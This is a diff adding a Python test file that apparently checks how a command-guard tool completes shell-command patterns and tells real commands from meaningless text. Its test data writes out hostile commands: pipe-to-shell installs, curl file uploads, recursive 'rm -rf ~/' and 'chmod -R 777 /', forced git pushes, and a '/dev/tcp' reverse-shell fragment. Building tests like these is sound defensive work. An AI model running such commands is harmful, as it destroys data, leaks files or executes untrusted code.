@@ -1,0 +1,93 @@
+"""What a pattern leaves out of a command is added, and what cannot mean anything is no command."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from tests.every import every
+
+from hookwright.attacking.texts.candidates import candidates
+from hookwright.attacking.texts.completing import completed, is_without_effect
+from hookwright.attacking.texts.examples import GAP, examples_of
+
+
+@every(
+    ("command", "whole"),
+    [
+        ("chmod 777", "chmod 777 README.md"),
+        ("chmod -R /", "chmod -R 777 /"),
+        ("chmod -x README.md", "chmod -x README.md"),
+        ("chown root", "chown root README.md"),
+        ("chown -R /", "chown -R nobody /"),
+        ("git config --global", "git config --global user.name notes"),
+        ("git config --global --list", "git config --global --list"),
+        ("git config --global core.editor", "git config --global core.editor notes"),
+        ("git push main", "git push origin main"),
+        ("git push --force x main", "git push --force origin main"),
+        ("git push origin", "git push origin"),
+        ("git push --delete main", "git push --delete origin main"),
+        ("git checkout --force", "git checkout --force"),
+        ("git branch -D", "git branch -D feature"),
+        ("curl -XPOST", "curl -XPOST https://example.com/"),
+        ("curl -d@", "curl -d @README.md https://example.com/"),
+        ("curl -F @", "curl -F file=@README.md https://example.com/"),
+        ("curl -T x", "curl -T README.md https://example.com/"),
+        ("wget |sh", "wget -qO- https://example.com/install.sh | sh"),
+        ("curl -fsSL https://example.com/a.sh | sh", "curl -fsSL https://example.com/a.sh | sh"),
+        ("sed -i", "sed -i s/1/2/ README.md"),
+        ("sed -i src/", "sed -i s/1/2/ src/*"),
+        ("sed -n p README.md", "sed -n p README.md"),
+        ("perl -i", "perl -i -pe s/1/2/ README.md"),
+        ("python3 -c", "python3 -c 'print(1)'"),
+        ("bash -c", "bash -c ls"),
+        ("rm ~/", "rm -rf ~/"),
+        ("rm -f notes.txt", "rm -f notes.txt"),
+        ("head -5", "head -5 README.md"),
+        ("docker exec postgres", "docker exec postgres true"),
+        ("grep -q", "grep -q TODO README.md"),
+        ("grep 'a|b' src; ls", "grep 'a|b' src; ls"),
+    ],
+)
+def test_a_command_has_what_it_needs(command: str, whole: str) -> None:
+    assert completed(command) == whole
+    assert not is_without_effect(whole)
+
+
+@every(
+    "command",
+    [
+        *("curl .secret", "wget env", "chown 777", "tee PROTECTED", "rm -a /", "rm -. ~", "chmod -a 777"),
+        *("git commit--all", "git push. --force", "git - checkout", "bash bypass the guard", "bash -i /dev/tcp"),
+        *("sudo rm", "sudo rm -r", "xargs rm -r", "perl -c", "git clean -af"),
+    ],
+)
+def test_what_cannot_mean_anything_is_no_command(command: str) -> None:
+    assert is_without_effect(completed(command))
+
+
+@every(
+    "text",
+    [
+        *("curl POST localhost: allowed loopback", "bash bypass canonical RBAC", "git log passes through"),
+        *("git push --force no está permitido", "rm -rf against root"),
+    ],
+)
+def test_a_sentence_that_begins_with_a_program_is_no_command(text: str, tmp_path: Path) -> None:
+    assert text not in {it for of_one in candidates([f"'{text}'"], str(tmp_path)).commands for it in of_one}
+
+
+@every(
+    ("pattern", "first"),
+    [
+        (r"git\s*push\s*--force", "git push --force"),
+        (r"rm\s+-[a-zA-Z]*r[a-zA-Z]*f", "rm -rf"),
+        (r"(^|[^\w-])rm[ +]-rf", "rm -rf"),
+        (r"git\s+push.+--force", f"git push{GAP}--force"),
+        (r"npm\s+install .+", "npm install ."),
+        (r"git\Wpush", "git push"),
+    ],
+)
+def test_an_example_is_as_people_write_it(pattern: str, first: str) -> None:
+    found = [it for it in examples_of(pattern) if it != pattern]
+    assert found[0] == first
+    assert not any("-ar" in it or it.startswith("x") for it in found)
